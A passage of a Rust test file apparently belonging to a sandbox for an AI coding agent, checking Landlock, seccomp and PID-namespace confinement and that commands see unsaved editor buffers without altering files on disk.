        .args(["--pid", "--mount", "--fork", "true"])
        .status()
        .is_ok_and(|status| status.success())
}

/// Where the kernel offers Landlock and namespaces, the full mechanism must have
/// run: a kernel that has them and a sandbox that falls back anyway fails here.
#[tokio::test]
async fn sandbox_full_confinement_runs_where_the_kernel_offers_it() {
    let Some(abi) = kernel_landlock_abi() else {
        let _ = writeln!(
            std::io::stderr(),
            "!!! SKIPPED: this kernel has no Landlock (landlock_create_ruleset failed); \
             the full confinement cannot be checked here"
        );
        return;
    };
    let namespaces = kernel_offers_pid_namespaces();
    let support = SandboxSupport::detect();
    assert!(
        support.confines_commands(),
        "Landlock ABI {abi} in the kernel, but {support:?}"
    );
    assert!(
        support.landlock.is_available(),
        "Landlock ABI {abi} in the kernel, but {support:?}"
    );
    if namespaces {
        assert!(
            matches!(support.containment, ProcessContainment::PidNamespace { .. }),
            "the kernel gives PID namespaces, but {support:?}"
        );
    } else {
        let _ = writeln!(
            std::io::stderr(),
            "!!! no PID namespaces for this user here: the subreaper is the containment"
        );
    }

    let workspace = Workspace::new();
    let outside = tempfile::tempdir().unwrap();
    let target = outside.path().join("escaped");
    let outcome = run(
        &runner(),
        workspace.spec(
            SandboxPolicy::WorkspaceWrite,
            &format!(
                "grep -E '^(NoNewPrivs|Seccomp|NSpid):' /proc/self/status; echo x > '{}'",
                target.display()
            ),
        ),
    )
    .await;
    let status = text(&outcome.stdout);
    assert!(status.contains("NoNewPrivs:\t1"), "{}", show(&outcome));
    assert!(status.contains("Seccomp:\t2"), "{}", show(&outcome));
    let nspid_levels = status
        .lines()
        .find_map(|line| line.strip_prefix("NSpid:"))
        .map_or(0, |pids| pids.split_whitespace().count());
    if namespaces {
        assert_eq!(
            nspid_levels,
            2,
            "not in a PID namespace: {}",
            show(&outcome)
        );
    }
    // Landlock, not file permissions, refused it: the directory is this user's own.
    assert!(!target.exists(), "{}", show(&outcome));
    assert_denied(&outcome);
}

/// Issue 18: the agent's edits stay in the editor's buffers until the user saves
/// them, and commands see them there: the buffer's text is bound over the file
/// in the command's own mount namespace. The disk keeps the saved text, and a
/// write by the command to that file is reported, not kept.
#[tokio::test]
async fn sandbox_commands_see_unsaved_buffers_and_the_disk_is_untouched() {
    let runner = runner();
    let workspace = Workspace::new();
    let file = workspace.path().join("README");
    let mut spec = workspace.spec(
        SandboxPolicy::WorkspaceWrite,
        "cat README; echo overwritten > README",
    );
    spec.overlays = vec![Overlay {
        path: file.clone(),
        text: "hello from the buffer\n".into(),
    }];
    let outcome = run(&runner, spec).await;
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "hello\n");
    let can_overlay = matches!(
        runner
            .support()
            .containment_for(SandboxPolicy::WorkspaceWrite),
        ProcessContainment::PidNamespace { .. }
    );
    if !can_overlay {
        // The fall-back: the saved file, and the model is told.
        assert_eq!(text(&outcome.stdout), "hello\n", "{}", show(&outcome));
        assert!(
            outcome
                .notes
                .iter()
                .any(|note| note.contains("saw the files as saved on disk")),
            "{:?}",
            outcome.notes
        );
        let _ = writeln!(
            std::io::stderr(),
            "!!! no PID namespace here: asserted the fall-back (commands see the disk) instead"
        );
        return;
    }
    assert_eq!(outcome.exit_code, Some(0), "{}", show(&outcome));
    assert_eq!(text(&outcome.stdout), "hello from the buffer\n");
    assert_eq!(
        outcome.notes,
        [
            "the command saw the editor's unsaved text of README",
            "the command changed README, which the editor holds unsaved: that change was not \
             kept; make it with apply_patch",
        ],
        "{}",
        show(&outcome)
    );

    // Read-only commands see them too; escalated (full-access) ones cannot, and
    // the model hears that they saw the disk.
    let mut spec = workspace.spec(SandboxPolicy::ReadOnly, "cat README");
    spec.overlays = vec![Overlay {
        path: file.clone(),
        text: "hello from the buffer\n".into(),
    }];
    let outcome = run(&runner, spec).await;
    assert_eq!(
        text(&outcome.stdout),
        "hello from the buffer\n",
        "{}",
        show(&outcome)
    );
    let mut spec = workspace.spec(SandboxPolicy::FullAccess, "cat README");
    spec.overlays = vec![Overlay {
        path: file.clone(),
        text: "hello from the buffer\n".into(),
    }];
    let outcome = run(&runner, spec).await;
    assert_eq!(text(&outcome.stdout), "hello\n", "{}", show(&outcome));
    assert_eq!(
        outcome.notes,
        [
            "the command saw the files as saved on disk: the editor holds unsaved changes to \
          README that this sandbox cannot show it; the user can save them"
        ]
    );
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "hello\n");
}
